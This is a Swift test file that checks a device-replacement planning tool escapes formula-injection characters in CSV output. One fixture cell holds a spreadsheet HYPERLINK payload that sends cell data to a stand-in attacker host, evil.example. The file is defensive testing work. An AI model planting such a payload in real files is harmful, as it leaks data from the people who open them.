import Foundation
import Testing

// `plan` on a register whose text columns start with =, +, -, @ and hold tabs and CR LFs writes
// files that `verify` and `report` accept; no cell of them starts a live formula.

private let header = ["device_id", "council", "site_id", "kind", "vendor", "sensitivity", "site_category", "model", "=notes"]
private let rows: [[String]] = [
    header,
    ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+Fife\r\n@1", "-S1\t=2", "@Camera", "=Hikvision\r\n+1",
     "+High", "-town\r\ncentre", "@model\t-X", "'=already"],
    ["@dev\r\n2", "+fife\r\n@1", "-S1\t=2", "@camera", "-Dahua", "+high", "-town\r\ncentre", "+m", "''+twice"],
    ["-broke\t1", "@Broke", "+B1", "@camera", "@Hikvision", "", "", "", "\t=tab"],
]
private let scenario = #"""
    {"periods": ["=P1", "+P2"], "sensitivity": {"+high": 4},
     "kinds": {"@camera": {"replaceCost": 100, "labourHours": 1}},
     "siteVisitCost": {"-town\r\ncentre": 10},
     "budgets": {"default": [1000, 1000], "@broke": [0, 0]},
     "deadlines": [{"by": "+P2"}]}
    """#

/// Writes the hostile register and scenario into a fresh folder.
func writeHostileInputs() throws -> (folder: String, register: String, scenario: String) {
    let folder = temporaryPath("hostile")
    try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
    let text = rows.map { $0.map { "\"" + $0.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }.joined(separator: ",") }
        .joined(separator: "\r\n") + "\r\n"
    try text.write(toFile: folder + "/register.csv", atomically: true, encoding: .utf8)
    try scenario.write(toFile: folder + "/scenario.json", atomically: true, encoding: .utf8)
    return (folder, folder + "/register.csv", folder + "/scenario.json")
}

@Test func hostileRegisterPlansVerifiesAndReports() throws {
    let files = try writeHostileInputs()
    defer { try? FileManager.default.removeItem(atPath: files.folder) }
    let out = files.folder + "/out"
    let plan = try runPhaseout(["plan", files.register, files.scenario, "--out", out, "--quiet"])
    #expect(plan.status == 3, "\(plan.stderr)")
    let funded = try runPhaseout(["verify", files.register, files.scenario, out + "/funded-plan.csv",
                                  "--shortfall", out + "/summary.json"])
    #expect(funded.status == 0, "\(funded.stdout)\(funded.stderr)")
    let planned = try runPhaseout(["verify", files.register, files.scenario, out + "/plan.csv"])
    // The broke council's units stand unreplaced: only its deadlines are missed (exit 3).
    #expect(planned.status == 3, "\(planned.stdout)\(planned.stderr)")
    // Only the council with no money is short; nothing about unknown devices or periods.
    #expect(!planned.stdout.contains("unknown") && planned.stdout.contains("@Broke"), "\(planned.stdout)")
    let report = try runPhaseout(["report", out])
    #expect(report.status == 0, "\(report.stderr)")
    let text = try String(contentsOfFile: out + "/plan.csv", encoding: .utf8)
    #expect(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""))
    #expect(text.contains("\"'+Fife\r\n@1\"") && text.contains("\"''=already\"") && text.contains("\"'''+twice\""))
    #expect(!text.contains(",=") && !text.contains(",+") && !text.contains(",-") && !text.contains(",@"))
}
